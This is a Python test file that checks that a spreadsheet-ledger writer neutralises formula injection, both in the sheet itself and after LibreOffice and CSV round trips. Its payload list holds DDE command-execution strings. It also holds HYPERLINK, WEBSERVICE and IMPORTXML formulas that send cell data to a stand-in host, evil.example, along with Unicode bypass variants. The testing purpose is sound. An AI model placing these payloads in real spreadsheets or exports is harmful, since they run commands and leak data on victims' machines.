"""Nothing a person types becomes a formula: not in the sheet, not after LibreOffice, not after a csv between them."""

import csv
import re
from datetime import UTC, datetime
from io import BytesIO, StringIO
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from zhucun.documents.cells import Cell, Link, harmless
from zhucun.documents.characters import visible
from zhucun.documents.ledger import Column, write_ledger
from zhucun.documents.office import convert

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "=\u200b1+1",
    "==1+1",
    "\x00=1+1",
    "{=1+1}",
    "=1+1\n第二行",
]  # fmt: skip
FORMULA = re.compile(r"[\t\n\r]|\s*[=+\-@＝＋－＠]")


@pytest.fixture(scope="module")
def poisoned() -> bytes:
    """Every payload as text, as words of a link, as header, title and note."""
    out = BytesIO()
    rows: list[list[Cell]] = [[payload, Link(payload, "https://zhucun.example/")] for payload in PAYLOADS]
    at = datetime(2026, 7, 3, tzinfo=UTC)
    write_ledger([Column("=1+1"), Column("@x")], rows, title="=1+1", notes=["=2+2"], out=out, at=at)
    return out.getvalue()


def formulas(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_no_cell_is_a_formula_however_it_is_read(poisoned):
    with ZipFile(BytesIO(poisoned)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()

    assert formulas(poisoned) == []
    assert "<f>" not in xml
    assert "<f " not in xml


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_would_begin_a_formula_has_an_apostrophe_in_front(payload):
    assert not FORMULA.match(harmless(payload))


@pytest.mark.parametrize(
    "text", ["-", "－", "+", "建设镇=城关", "3-5人", "'已有撇号", "", "—", "（一）", "a@b.cn"]
)
def test_a_text_that_computes_nothing_is_left_as_it_is(text):
    assert harmless(text) == text


@given(st.text())
def test_no_text_begins_a_formula_and_every_text_is_whole(text):
    shown = harmless(text)

    assert not (FORMULA.match(shown) and len(shown) > 1)
    assert shown in (visible(text), f"'{visible(text)}")


def test_nothing_after_the_apostrophe_is_changed():
    assert harmless("+86 0836 123") == "'+86 0836 123"


@pytest.mark.office
@pytest.mark.slow
def test_libreoffice_recalculates_and_finds_no_formula(poisoned, tmp_path):
    recalculated = convert(poisoned, "xlsx", "xlsx", workspace=tmp_path)

    assert formulas(recalculated) == []


@pytest.mark.office
@pytest.mark.slow
def test_saved_as_csv_and_opened_again_there_is_still_no_formula(poisoned, tmp_path):
    saved = convert(poisoned, "xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1", workspace=tmp_path)
    reopened = convert(saved, "csv", "xlsx", workspace=tmp_path)
    eager = convert(b"=1+1\n", "csv", "xlsx", workspace=tmp_path)

    cells = [cell for row in csv.reader(StringIO(saved.decode("utf-8"))) for cell in row]
    assert len(cells) > 2 * len(PAYLOADS)
    assert [cell for cell in cells if FORMULA.match(cell)] == []
    assert formulas(reopened) == []
    assert formulas(eager) == ["A1"]  # it would have found one


@pytest.mark.office
@pytest.mark.slow
def test_names_survive_libreoffice(tmp_path):
    names = ["莫𡐓村", "輋𣒍村", "那𡌶村", "\ue170村", "\ue08b村", "_x0041_"]
    out = BytesIO()
    at = datetime(2026, 7, 3, tzinfo=UTC)
    write_ledger([Column("村")], [[name] for name in names], title="村名", notes=[], out=out, at=at)

    read = openpyxl.load_workbook(
        BytesIO(convert(out.getvalue(), "xlsx", "xlsx", workspace=tmp_path))
    ).worksheets[0]

    assert [read.cell(3 + place, 1).value for place in range(6)] == names
